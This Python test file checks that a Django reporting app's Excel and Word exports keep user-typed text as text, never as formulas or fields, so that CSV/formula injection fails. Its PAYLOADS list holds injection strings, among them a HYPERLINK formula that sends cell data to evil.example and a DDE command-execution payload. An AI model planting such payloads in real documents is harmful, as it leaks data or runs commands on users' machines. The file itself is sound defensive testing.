"""Formula injection: whatever a person typed reaches Excel and Word as text, never as a
formula or a field (OWASP, "CSV injection"). The probe writes a formula into every text field
of every row of อบต.นาทอน, then opens every export of every year the way Excel and Word would."""

import io

import openpyxl
import pytest
from django.apps import apps
from django.db import models
from django_scopes import scope, scopes_disabled
from docx import Document
from docx.oxml.ns import qn

from organisations.models import FiscalYear
from reports.documents import exports
from reports.documents import kinds as documents
from reports.documents.docx import to_docx
from reports.documents.snapshot import approval_blocks, report_snapshot
from reports.documents.xlsx import to_xlsx
from reports.enums import ROUND_KINDS

pytestmark = pytest.mark.django_db

# What the independent probe typed, and the other characters a spreadsheet starts a formula with.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


APPEND_ONLY = {"reports_decision", "reports_reportevent"}


def _typed_text_fields(model):
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not isinstance(field, models.SlugField | models.URLField | models.EmailField)
        and field.name not in {"content_type", "original_name", "pdf_sha256", "password"}
    ]


@pytest.fixture
def formulas_everywhere(nathon):
    """Every text field of every row of นาทอน starts with a formula (one payload per row)."""
    written = 0
    with scopes_disabled():
        for model in apps.get_models():
            if not any(f.name == "organisation" for f in model._meta.concrete_fields):
                continue
            if model._meta.db_table in APPEND_ONLY or model.__name__.startswith("Historical"):
                continue  # rows that cannot be updated (their text is written once)
            fields = _typed_text_fields(model)
            if not fields:
                continue
            rows = list(model.objects.filter(organisation=nathon))
            for index, row in enumerate(rows):
                payload = PAYLOADS[index % len(PAYLOADS)]
                for field in fields:
                    value = getattr(row, field.attname) or ""
                    limit = field.max_length or 10**6
                    setattr(row, field.attname, (payload + value)[:limit])
            if rows:
                model.objects.bulk_update(rows, [f.name for f in fields])
                written += 1
    assert written > 0
    return nathon


def _snapshots(nathon, coordinator, kinds):
    with scope(organisation=nathon):
        for fiscal_year in FiscalYear.objects.order_by("year"):
            for kind in kinds:
                report_kind = documents.report_kind_of(kind)
                for round_ in (6, 12) if report_kind in ROUND_KINDS else (None,):
                    report = documents.transient_report(
                        organisation=nathon,
                        fiscal_year=fiscal_year,
                        kind=kind,
                        round_=round_,
                        drafter=coordinator,
                    )
                    yield (
                        f"{fiscal_year.year} {kind} {round_ or ''}",
                        report_snapshot(report),
                        approval_blocks(report),
                    )


def test_no_cell_of_any_workbook_is_a_formula(formulas_everywhere, coordinator):
    formulas, unquoted, typed = [], [], 0
    for name, snapshot, _blocks in _snapshots(formulas_everywhere, coordinator, exports.XLSX_KINDS):
        book = openpyxl.load_workbook(io.BytesIO(to_xlsx(snapshot)))
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        formulas.append(f"{name} {sheet.title}!{cell.coordinate}: {cell.value!r}")
                    elif isinstance(cell.value, str) and cell.value.lstrip("\t")[:1] in "=+-@":
                        typed += 1
                        # Excel keeps it as text even when the cell is edited and entered again.
                        if not cell.quotePrefix:
                            unquoted.append(f"{name} {sheet.title}!{cell.coordinate}")
    assert not formulas, f"{len(formulas)} formulas:\n" + "\n".join(formulas[:20])
    assert not unquoted, f"{len(unquoted)} without the text prefix:\n" + "\n".join(unquoted[:9])
    assert typed > 100  # the probe reached the typed cells: measures, steps, progress, OIT, minutes


def test_the_typed_text_is_kept_as_typed(formulas_everywhere, coordinator, nathon):
    with scope(organisation=nathon):
        report = documents.transient_report(
            organisation=nathon,
            fiscal_year=FiscalYear.objects.get(year=2568),
            kind="plan",
            round_=None,
            drafter=coordinator,
        )
        book = openpyxl.load_workbook(io.BytesIO(to_xlsx(report_snapshot(report))))
    values = [c.value for row in book["มาตรการ"].iter_rows(min_row=2) for c in row]
    assert any(str(v).startswith('=HYPERLINK("https://evil.example/') for v in values)


def test_no_word_document_turns_typed_text_into_a_field(formulas_everywhere, coordinator):
    fields = []
    for name, snapshot, blocks in _snapshots(formulas_everywhere, coordinator, exports.DOCX_KINDS):
        document = Document(io.BytesIO(to_docx(snapshot, blocks)))
        parts = [document.element.body]
        parts += [s.header._element for s in document.sections]
        parts += [s.footer._element for s in document.sections]
        for part in parts:
            for simple in part.iter(qn("w:fldSimple")):
                fields.append(f"{name}: fldSimple {simple.get(qn('w:instr'))}")
            for instr in part.iter(qn("w:instrText")):
                # Ours: the page number, and the book's table of contents.
                if instr.text.strip() not in ("PAGE \\* ThaiArabic", 'TOC \\o "1-1" \\h \\z \\u'):
                    fields.append(f"{name}: field {instr.text!r}")
    assert not fields, "\n".join(fields[:20])
